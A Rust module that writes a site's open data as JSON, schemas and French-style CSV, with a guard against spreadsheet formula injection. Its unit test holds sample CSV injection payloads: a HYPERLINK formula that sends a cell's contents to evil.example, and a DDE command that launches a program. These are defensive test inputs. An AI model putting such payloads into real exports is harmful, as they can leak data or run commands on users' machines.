//! The open data: each certification and each list as JSON and as a table, under the addresses that pages cite.
//!
//! A renderer like the others: a function from the plan to bytes. The words are those of the sources, without the
//! typography of the page, and what the editor says stands in fields of its own ([`format`]). The schemas are made from the
//! types that write the files; the page that documents the data is made from the schemas.

mod certification;
mod common;
pub mod format;
mod liste;
mod schema;

use std::borrow::Cow;

use serde::Serialize;

use crate::plan::{DataFacts, DataFiles, Plan, Table, schema_path};
use format::{Certification, LigneCertification, LigneTableauListe, Liste};

/// The files, and what the site says of them.
#[derive(Debug, Default)]
pub struct OpenData {
    /// Path from the root of the site, and bytes.
    pub files: Vec<(String, Vec<u8>)>,
    pub facts: DataFacts,
}

const CERTIFICATION: &str = "certification";
const LIST: &str = "liste";

/// The open data of what is planned.
pub fn render(plan: &Plan) -> OpenData {
    let mut files = Vec::new();
    for planned in &plan.certifications {
        let (data, rows) = certification::of(plan, planned, schema_address(plan, &planned.data, CERTIFICATION));
        files.push((planned.data.json.clone(), json(&data)));
        files.push((planned.data.csv.clone(), table(&rows)));
    }
    for planned in &plan.lists {
        let (data, rows) = liste::of(plan, planned, schema_address(plan, &planned.data, LIST));
        files.push((planned.data.json.clone(), json(&data)));
        files.push((planned.data.csv.clone(), table(&rows)));
    }
    let (certification, list) = (schema::of::<Certification>(), schema::of::<Liste>());
    let (rows, list_rows) = (schema::of::<LigneCertification>(), schema::of::<LigneTableauListe>());
    let facts = DataFacts {
        schemas: vec![
            Table {
                name: CERTIFICATION,
                title: "JSON d'une certification",
                schema: Some(schema_path(CERTIFICATION)),
                objects: schema::described(&certification),
            },
            Table {
                name: LIST,
                title: "JSON d'une liste",
                schema: Some(schema_path(LIST)),
                // What both describe is told once.
                objects: schema::described(&list)
                    .into_iter()
                    .filter(|object| schema::described(&certification).iter().all(|known| known.name != object.name))
                    .collect(),
            },
        ],
        tables: vec![
            Table {
                name: "tableau-certification",
                title: "CSV d'une certification",
                schema: None,
                objects: schema::described(&rows),
            },
            Table {
                name: "tableau-liste",
                title: "CSV d'une liste",
                schema: None,
                objects: schema::described(&list_rows),
            },
        ],
        bytes: Default::default(),
    };
    files.push((schema_path(CERTIFICATION), json(&certification)));
    files.push((schema_path(LIST), json(&list)));
    let bytes = files.iter().map(|(path, bytes)| (path.clone(), bytes.len())).collect();
    OpenData { files, facts: DataFacts { bytes, ..facts } }
}

/// Where a file says that its schema is: online, or beside it on a disk.
fn schema_address(plan: &Plan, files: &DataFiles, name: &str) -> String {
    let path = schema_path(name);
    match crate::plan::PublicAddress::of(&plan.catalogue.site) {
        Some(public) => public.to(&path),
        None => crate::plan::relative(&files.json, &path),
    }
}

fn json(data: &impl Serialize) -> Vec<u8> {
    // Plain data of ours: it always has a JSON form.
    let mut text = serde_json::to_string_pretty(data).unwrap_or_default();
    text.push('\n');
    text.into_bytes()
}

/// RFC 4180, with the semicolon that French spreadsheets expect, and the mark by which they know UTF-8.
fn table<R: Serialize>(rows: &[R]) -> Vec<u8> {
    let writer = || csv::WriterBuilder::new().delimiter(b';').terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    let mut plain = writer();
    for row in rows {
        // A row of texts and numbers written to memory cannot fail.
        let _ = plain.serialize(row);
    }
    let plain = plain.into_inner().unwrap_or_default();
    let mut safe = writer();
    let mut rows = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(plain.as_slice());
    for row in rows.records().flatten() {
        let _ = safe.write_record(row.iter().map(|cell| inert(cell).into_owned()));
    }
    ["\u{FEFF}".as_bytes(), &safe.into_inner().unwrap_or_default()].concat()
}

/// A cell that no spreadsheet runs: one that begins as a formula does begins with an apostrophe, and so does one that
/// begins with an apostrophe, so that a program takes away the first and has the words.
fn inert(cell: &str) -> Cow<'_, str> {
    match cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\'', '＝', '＋', '－', '＠']) {
        true => Cow::Owned(format!("'{cell}")),
        false => Cow::Borrowed(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Serialize)]
    struct Row {
        code: &'static str,
        texte: &'static str,
        niveau: Option<i8>,
    }

    #[test]
    fn a_spreadsheet_runs_no_cell_and_a_program_finds_the_words() {
        let texts = [
            "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Cliquez\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+33",
            "-5 %",
            "＝1+1",
            "'déjà",
            "Pétrir = travailler",
            "« -5 % »",
            "",
        ];
        let rows: Vec<Row> = texts.map(|texte| Row { code: "D1", texte, niveau: Some(-1) }).into();
        let bytes = table(&rows);
        let text = std::str::from_utf8(&bytes).expect("UTF-8").strip_prefix('\u{FEFF}').expect("a mark");
        assert!(text.starts_with("code;texte;niveau\r\n"), "{text}");
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
        let found: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
        assert_eq!(found.len(), texts.len());
        for (row, text) in found.iter().zip(texts) {
            assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '＝'])), "{row:?}");
            assert_eq!(row[1].strip_prefix('\'').unwrap_or(&row[1]), text);
            assert_eq!(&row[2], "'-1");
        }
    }
}
